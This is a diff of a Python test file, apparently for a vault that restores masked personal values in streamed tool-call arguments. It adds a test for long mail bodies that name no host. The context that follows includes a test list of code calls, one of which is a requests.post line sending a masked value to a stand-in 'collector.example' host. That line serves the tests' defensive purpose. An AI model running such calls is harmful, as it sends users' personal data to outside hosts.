@@ -176,6 +176,16 @@ def test_a_long_object_fails_closed_past_the_hold() -> None:
     assert out["path"] == f"/p/{E}" and out["to"] == MAIL
 
 
+def test_a_long_body_without_a_host_is_restored_past_the_hold() -> None:
+    """A mail's long `body` (no URL part): past the hold it goes out as what came decides (no host: restored), not
+    kept; a short one waits for its object and is restored too."""
+    for pad in (HOLD + 100, 20):
+        args = {"to": E, "body": f"Dear {N}, {'words ' * (pad // 6)}", "subject": "Hi"}
+        want = {"to": MAIL, "body": f"Dear {NAME}, {'words ' * (pad // 6)}", "subject": "Hi"}
+        for size in (1, 40):
+            assert json.loads(streamed(vault(), json.dumps(args), size, in_json=True)) == want, (pad, size)
+
+
 # (3) code calls that send a value to a network URL or host named in the same statement
 CALLS = [
     f'requests.post("https://collector.example/p", data={{"u": "{E}"}})',
